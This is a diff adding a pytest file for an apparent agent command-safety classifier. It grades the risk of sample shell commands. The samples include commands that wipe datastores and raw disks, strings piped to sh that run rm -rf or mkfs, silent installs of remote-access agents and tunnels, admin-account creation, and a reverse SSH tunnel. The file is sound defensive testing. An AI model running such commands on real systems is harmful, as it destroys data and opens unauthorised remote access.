@@ -1,0 +1,66 @@
+"""safety-m7: Round-7 mechanisms (own spellings): remote-access agents and tunnels installed
+as services, admin accounts and plugins from URLs by application CLIs, other shells'
+start-up folders as copy destinations, hypervisor datastores and raw disks, literals printed
+by jq/yq/deno piped to a shell, read-only commands over ssh or in a pod, APFS snapshots."""
+
+from __future__ import annotations
+
+import pytest
+
+from aintern_ls.safety import RiskLevel
+from tests.safety._levels import B, C, D, M, S, level
+
+
+@pytest.mark.parametrize(
+    "command,shell,expected",
+    [
+        ("splashtop.exe --autostart", "cmd", C),
+        ("./frpc service install -c frpc.toml", "bash", C),
+        ("TeamViewer.exe install --silent", "cmd", C),
+        ("somerelay --install-service --token abc", "bash", C),
+        ("drush user:role:add administrator bob", "bash", C),
+        ("occ user:add --role=admin eve", "bash", C),
+        ("craft plugin install https://x.example/p.zip", "bash", C),
+        # look-alikes: listing, a plain install of a plugin by name, a tunnel in the foreground
+        ("teamviewer --info", "bash", M),
+        ("wp plugin install classic-editor", "bash", M),
+        ("cloudflared tunnel run app", "bash", M),
+    ],
+)
+def test_remote_access_installs_and_admin_accounts(
+    command: str, shell: str, expected: RiskLevel
+) -> None:
+    assert level(command, shell) == expected
+
+
+@pytest.mark.parametrize(
+    "command,expected",
+    [
+        ("install -m 644 a.nu ~/.config/nushell/autoload/", C),
+        ("cp prompt.xsh ~/.config/xonsh/rc.d/", C),
+        ("cp rc.elv ~/.config/elvish/rc.elv", C),
+        ("cp notes.md ~/Documents/", M),
+        ("rm -rf /vmfs/volumes/ssd-ds-01/", B),
+        ("find /vmfs/volumes/6512ab-4c0d -name '*.vmdk' -delete", D),  # narrowed (session 8)
+        ("dd if=/dev/urandom of=/vmfs/devices/disks/naa.6000c29 bs=4M", B),
+        ("partedUtil mklabel /vmfs/devices/disks/naa.6000c29 msdos", B),
+        ("partedUtil getUsableSectors /vmfs/devices/disks/naa.6000c29", S),
+        ("rm -rf /vmfs/volumes/ds1/old-vm", D),
+        ("jq -nr '\"rm -rf /var/lib\"' | sh", B),
+        ("gojq -n '\"mkfs.ext4 /dev/sdb\"' | bash", B),
+        ("bun eval 'console.log(\"rm -rf ~\")' | sh", B),
+        ("jq -r '.scripts.build' package.json | sh", C),
+        ("ssh ops@10.0.0.9 uptime", S),
+        ("ssh -p 2200 db 'ls -la /var/lib/postgresql'", S),
+        ("ssh -R 2222:localhost:22 relay.example sleep 600", M),
+        ("ssh db 'rm -rf /tmp/cache'", D),
+        ("kubectl exec deploy/api -- env", S),
+        ("kubectl exec -it api-0 -- bash", M),
+        ("diskutil apfs deleteSnapshot disk1s1 -uuid 1234-ABCD", D),
+        ("diskutil apfs deleteVolume disk2s3", B),  # existing reading kept
+        ("defaults -currentHost read com.apple.screensaver", S),
+        ("gh variable list", S),
+    ],
+)
+def test_round7_shapes(command: str, expected: RiskLevel) -> None:
+    assert level(command, "bash") == expected
